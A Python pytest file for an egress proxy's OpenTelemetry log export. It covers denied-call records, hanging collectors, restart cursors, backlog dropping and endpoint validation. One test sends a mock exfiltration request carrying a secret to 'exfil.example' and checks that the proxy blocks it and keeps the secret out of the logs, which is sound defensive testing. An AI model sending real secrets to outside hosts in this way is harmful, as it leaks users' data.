"""The log, exported to a real OTLP/HTTP receiver: what arrives is decoded by OpenTelemetry's own messages."""

from __future__ import annotations

import gzip
import http.server
import threading
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from opentelemetry.proto.collector.logs.v1.logs_service_pb2 import ExportLogsServiceRequest, ExportLogsServiceResponse
from opentelemetry.proto.logs.v1.logs_pb2 import LogRecord
from prometheus_client import CollectorRegistry

from cloned_proxy.store import otlp_export
from cloned_proxy.store.audit_log import AuditLog
from cloned_proxy.store.otlp_export import OtlpExport
from cloned_proxy.telemetry.events import FlowEnd
from cloned_proxy.telemetry.otlp import trace_id
from tests.cli.conftest import workspace
from tests.cli.program import Workspace, eventually, policy_text
from tests.telemetry.test_metrics import EVENT

__all__ = ["workspace"]

ID = "0123456789abcdef01234567"


class Receiver:
    """Takes `/v1/logs` on loopback, or answers `status` while that is not 200, or nothing while it hangs."""

    def __init__(self) -> None:
        self.records: list[LogRecord] = []
        self.resource: dict[str, str] = {}
        self.status = 200
        self.hang = threading.Event()
        self.hang.set()
        self.asked = 0
        receiver = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                receiver.asked += 1
                receiver.hang.wait(30)
                data = gzip.decompress(self.rfile.read(int(self.headers["Content-Length"])))
                assert (self.path, self.headers["Content-Type"]) == ("/v1/logs", "application/x-protobuf")
                if receiver.status == 200:
                    receiver.take(ExportLogsServiceRequest.FromString(data))
                self.send_response(receiver.status)
                self.send_header("Content-Length", "0")
                self.end_headers()
                self.wfile.write(ExportLogsServiceResponse().SerializeToString())

            def log_message(self, format: str, *args: object) -> None: ...  # noqa: A002  the base class's word

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self._server.daemon_threads = True
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}"
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def take(self, request: ExportLogsServiceRequest) -> None:
        (resource,) = request.resource_logs
        self.resource = {pair.key: pair.value.string_value for pair in resource.resource.attributes}
        for scope in resource.scope_logs:
            self.records += scope.log_records

    def close(self) -> None:
        self.hang.set()
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    found = Receiver()
    yield found
    found.close()


def attributes(record: LogRecord) -> dict[str, Any]:
    return {pair.key: getattr(pair.value, str(pair.value.WhichOneof("value"))) for pair in record.attributes}


def test_a_denied_call_of_a_real_serve_arrives_with_its_decisions_id(workspace: Workspace, receiver: Receiver) -> None:
    workspace.write_policy(policy_text())
    (workspace.path / "config.yaml").write_text(f"telemetry: {{otlp_endpoint: '{receiver.url}'}}\n")
    serving = workspace.serve()
    answer = serving.get("http://exfil.example/a?secret=1")
    eventually(lambda: any(r.event_name == "cloned_proxy.decision" for r in receiver.records), what="the record")
    (record,) = [r for r in receiver.records if r.event_name == "cloned_proxy.decision"]
    found = attributes(record)
    assert found["cloned.id"] in answer.body
    assert record.trace_id.hex() == f"00000000{found['cloned.id']}"
    assert (found["server.address"], found["server.port"], found["url.path"]) == ("exfil.example", 80, "/a")
    assert (found["cloned.verdict"], found["cloned.reason"]) == ("deny", "host_not_allowed")
    assert (record.severity_text, record.body.string_value) == ("WARN", "decision deny host_not_allowed")
    assert abs(record.time_unix_nano / 1e9 - time.time()) < 60
    assert receiver.resource["service.name"] == "cloned-proxy"
    assert "secret" not in str(receiver.records)
    assert "cloned_proxy_otlp_exported_total" in serving.page("/metrics").body


def test_a_collector_that_hangs_costs_traffic_nothing(workspace: Workspace, receiver: Receiver) -> None:
    workspace.write_policy(policy_text())
    (workspace.path / "config.yaml").write_text(f"telemetry: {{otlp_endpoint: '{receiver.url}'}}\n")
    serving = workspace.serve()
    receiver.hang.clear()
    serving.get("http://first.example/")
    eventually(lambda: receiver.asked, what="an export that hangs")
    for number in range(20):
        assert serving.get(f"http://host{number}.example/").status == 403
    assert serving.page("/readyz").status == 200
    receiver.hang.set()
    hosts = {f"host{number}.example" for number in range(20)}
    eventually(lambda: hosts <= {attributes(r).get("server.address") for r in receiver.records}, what="all of them")


@pytest.fixture
def log(tmp_path: Path) -> Iterator[AuditLog]:
    with AuditLog(tmp_path / "state.db") as found:
        yield found


def export(tmp_path: Path, receiver: Receiver) -> tuple[OtlpExport, CollectorRegistry]:
    registry = CollectorRegistry()
    found = OtlpExport(tmp_path, tmp_path / "state.db", receiver.url, registry)
    found.start()
    return found, registry


def append(log: AuditLog, *numbers: int) -> None:
    for number in numbers:
        log.append(replace(EVENT, id=f"{number:024x}"))


def ids(receiver: Receiver) -> list[int]:
    return [int(str(attributes(record)["cloned.id"]), 16) for record in receiver.records]


def test_a_restart_goes_on_where_the_last_export_stopped(
    tmp_path: Path, log: AuditLog, receiver: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(otlp_export, "_EVERY_SECONDS", 0.05)
    append(log, 1)
    first, _ = export(tmp_path, receiver)
    cursor = tmp_path / "run/otlp.seq"
    eventually(cursor.exists, what="a beginning")  # what was there before is old
    append(log, 2)
    first.close()
    assert ids(receiver) == [2]
    receiver.status = 503
    second, registry = export(tmp_path, receiver)
    append(log, 3)
    eventually(lambda: receiver.asked > 1, what="a refused export")
    second.close()
    assert registry.get_sample_value("cloned_proxy_otlp_exported_total") == 0
    receiver.status = 200
    third, registry = export(tmp_path, receiver)
    eventually(lambda: ids(receiver) == [2, 3], what="the rest")
    third.close()
    assert registry.get_sample_value("cloned_proxy_otlp_exported_total") == 1


def test_what_lies_too_far_back_is_dropped_and_counted(
    tmp_path: Path, log: AuditLog, receiver: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(otlp_export, "_EVERY_SECONDS", 0.05)
    monkeypatch.setattr(otlp_export, "MOST_BEHIND", 3)
    append(log, 1)
    (tmp_path / "run").mkdir()
    (tmp_path / "run/otlp.seq").write_text("1\n")
    append(log, *range(2, 12))
    exporter, registry = export(tmp_path, receiver)
    eventually(lambda: ids(receiver) == [9, 10, 11], what="the newest three")
    exporter.close()
    assert registry.get_sample_value("cloned_proxy_otlp_dropped_total") == 7


def test_the_end_of_a_flow_belongs_to_its_decision(
    tmp_path: Path, log: AuditLog, receiver: Receiver, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(otlp_export, "_EVERY_SECONDS", 0.05)
    (tmp_path / "run").mkdir()
    (tmp_path / "run/otlp.seq").write_text("0\n")
    log.append(FlowEnd(ID, 5.0, "t", 1, 2, 0.5, "closed"))
    exporter, _ = export(tmp_path, receiver)
    eventually(lambda: receiver.records, what="the record")
    exporter.close()
    (record,) = receiver.records
    assert (record.event_name, record.trace_id) == ("cloned_proxy.flow_end", trace_id(ID))
    assert attributes(record)["cloned.bytes_down"] == 2


@pytest.mark.parametrize(
    "endpoint", ["ftp://127.0.0.1", "http://user:secret@collector", "http://c/v1/logs", "collector"]
)
def test_an_endpoint_that_is_no_base_url_is_refused_at_start(workspace: Workspace, endpoint: str) -> None:
    workspace.write_policy(policy_text())
    (workspace.path / "config.yaml").write_text(f"telemetry: {{otlp_endpoint: '{endpoint}'}}\n")
    done = workspace.run("serve", "--listen", "127.0.0.1:0", "--metrics", "off", "--control", "off")
    assert (done.returncode, "telemetry.otlp_endpoint" in done.stderr) == (2, True), done.stderr


def test_anything_but_hex_has_no_trace() -> None:
    assert [trace_id(text) for text in ("", "zz", "00" * 17)] == [b"", b"", b""]
